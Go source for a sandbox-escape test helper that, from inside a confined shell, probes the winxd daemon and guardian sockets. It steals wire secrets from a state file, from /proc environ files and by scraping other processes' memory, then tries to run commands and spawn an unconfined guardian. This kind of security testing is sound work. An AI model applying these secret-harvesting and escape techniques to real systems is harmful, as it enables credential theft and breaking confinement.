// Command wireescape is an attack helper of the sandbox tests: run inside a
// confined shell, it tries to drive winxd and every guardian through their
// sockets, speaking the wire by hand (a 4-byte big-endian length, then
// JSON-RPC), as a hostile program would. It asks winxd for an unconfined
// guardian and runs a listing of the hidden home directory there, and runs
// the same listing on every guardian socket it finds. It prints ESCAPED with
// what it got when a step succeeds and REFUSED with the reason otherwise.
// Besides hellos without a secret or with a guessed one, it tries every
// secret it can steal: the state directory's file and the environment of
// every process (/proc/PID/environ, where a guardian's hand-off lies).
//
// Usage: wireescape SOCKET_DIR HOME [GUARDIAN_SOCKET...]
package main

import (
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"time"
)

type conn struct {
	c    net.Conn
	next int
}

func dial(path string) (*conn, error) {
	c, err := net.DialTimeout("unix", path, 3*time.Second)
	if err != nil {
		return nil, err
	}
	c.SetDeadline(time.Now().Add(20 * time.Second))
	return &conn{c: c}, nil
}

func (c *conn) call(method string, params any) (json.RawMessage, error) {
	c.next++
	b, _ := json.Marshal(map[string]any{"jsonrpc": "2.0", "id": c.next, "method": method, "params": params})
	var n [4]byte
	binary.BigEndian.PutUint32(n[:], uint32(len(b)))
	if _, err := c.c.Write(append(n[:], b...)); err != nil {
		return nil, err
	}
	if _, err := io.ReadFull(c.c, n[:]); err != nil {
		return nil, err
	}
	buf := make([]byte, binary.BigEndian.Uint32(n[:]))
	if _, err := io.ReadFull(c.c, buf); err != nil {
		return nil, err
	}
	var resp struct {
		Result json.RawMessage `json:"result"`
		Error  json.RawMessage `json:"error"`
	}
	if err := json.Unmarshal(buf, &resp); err != nil {
		return nil, err
	}
	if resp.Error != nil {
		return nil, fmt.Errorf("wire error %s", resp.Error)
	}
	return resp.Result, nil
}

// hellos are the spellings tried: none, an empty secret, a guessed one.
var hellos = []map[string]any{
	{"protocol": map[string]int{"major": 1, "minor": 0}, "role": "adapter", "build": map[string]any{}, "pid": os.Getpid()},
	{"protocol": map[string]int{"major": 1, "minor": 0}, "role": "adapter", "build": map[string]any{}, "pid": os.Getpid(), "secret": ""},
	{"protocol": map[string]int{"major": 1, "minor": 0}, "role": "adapter", "build": map[string]any{}, "pid": os.Getpid(), "secret": "0000000000000000000000000000000000000000000000000000000000000000"},
}

// steal adds to hellos every wire secret this process can read.
func steal(home string) {
	var found []string
	if b, err := os.ReadFile(filepath.Join(home, ".local", "state", "winx", "wire-secret")); err == nil {
		found = append(found, strings.TrimSpace(string(b)))
		fmt.Printf("ESCAPED read the secret file\n")
	}
	procs, _ := filepath.Glob("/proc/[0-9]*/environ")
	for _, p := range procs {
		b, err := os.ReadFile(p)
		if err != nil {
			continue
		}
		for _, kv := range strings.Split(string(b), "\x00") {
			if v, ok := strings.CutPrefix(kv, "WINX_WIRE_SECRET="); ok {
				found = append(found, v)
				cmd, _ := os.ReadFile(filepath.Join(filepath.Dir(p), "cmdline"))
				fmt.Printf("ESCAPED read the secret in %s (%q)\n", p, cmd)
			}
		}
	}
	// The memory of every process it may open: a secret is 64 hex digits.
	maps, _ := filepath.Glob("/proc/[0-9]*/maps")
	hexRun := regexp.MustCompile(`[0-9a-f]{64}`)
	for _, m := range maps {
		if filepath.Dir(m) == "/proc/self" || filepath.Base(filepath.Dir(m)) == strconv.Itoa(os.Getpid()) {
			continue
		}
		b, err := os.ReadFile(m)
		if err != nil {
			continue
		}
		mem, err := os.Open(filepath.Join(filepath.Dir(m), "mem"))
		if err != nil {
			continue
		}
		read := false
		for _, line := range strings.Split(string(b), "\n") {
			f := strings.Fields(line)
			if len(f) < 2 || !strings.HasPrefix(f[1], "rw") {
				continue
			}
			var lo, hi uint64
			fmt.Sscanf(f[0], "%x-%x", &lo, &hi)
			if hi-lo > 64<<20 {
				continue
			}
			buf := make([]byte, hi-lo)
			n, _ := mem.ReadAt(buf, int64(lo))
			if n > 0 {
				read = true
			}
			for _, c := range hexRun.FindAll(buf[:n], 64) {
				found = append(found, string(c))
			}
		}
		mem.Close()
		if read {
			cmd, _ := os.ReadFile(filepath.Join(filepath.Dir(m), "cmdline"))
			fmt.Printf("read the memory of %s (%q)\n", filepath.Dir(m), cmd)
		}
	}
	if len(found) > 200 {
		found = found[:200]
	}
	for _, s := range found {
		hellos = append(hellos, map[string]any{"protocol": map[string]int{"major": 1, "minor": 0}, "role": "adapter", "build": map[string]any{}, "pid": os.Getpid(), "secret": s})
	}
}

// open dials path and tries each hello until one is accepted.
func open(path string) (*conn, error) {
	var last error
	for _, h := range hellos {
		c, err := dial(path)
		if err != nil {
			return nil, err
		}
		if _, err := c.call("hello", h); err != nil {
			c.c.Close()
			last = err
			continue
		}
		return c, nil
	}
	return nil, last
}

func run(socket, home string) {
	c, err := open(socket)
	if err != nil {
		fmt.Printf("REFUSED run %s: %v\n", filepath.Base(socket), err)
		return
	}
	defer c.c.Close()
	res, err := c.call("session.run", map[string]any{"command": "ls -a " + home + "; grep NoNewPrivs /proc/self/status", "wait_ms": 5000})
	if err != nil {
		fmt.Printf("REFUSED run %s: %v\n", filepath.Base(socket), err)
		return
	}
	fmt.Printf("ESCAPED run %s: %s\n", filepath.Base(socket), res)
}

func main() {
	dir, home := os.Args[1], os.Args[2]
	steal(home)
	// Every guardian already running, the confined one included.
	// (The directory may be hidden; then the caller names them, as an
	// attacker who hashes a guessed key would.)
	socks, _ := filepath.Glob(filepath.Join(dir, "g-*.sock"))
	socks = append(socks, os.Args[3:]...)
	for _, s := range socks {
		run(s, home)
	}
	// winxd: ask for an unconfined guardian, in both spellings of the key.
	c, err := open(filepath.Join(dir, "winxd.sock"))
	if err != nil {
		fmt.Printf("REFUSED winxd: %v\n", err)
		return
	}
	defer c.c.Close()
	for _, key := range []string{"escape-key", "escape-key\x00sandbox"} {
		res, err := c.call("daemon.ensure", map[string]any{
			"key": key, "dir": "/", "workspace": "/", "sandbox": false,
			"env": []string{"HOME=" + home, "PATH=/usr/local/bin:/usr/bin:/bin"},
		})
		if err != nil {
			fmt.Printf("REFUSED ensure: %v\n", err)
			continue
		}
		var r struct {
			Guardian struct {
				Socket string `json:"socket"`
			} `json:"guardian"`
		}
		json.Unmarshal(res, &r)
		fmt.Printf("ESCAPED ensure: %s\n", r.Guardian.Socket)
		run(r.Guardian.Socket, home)
	}
}
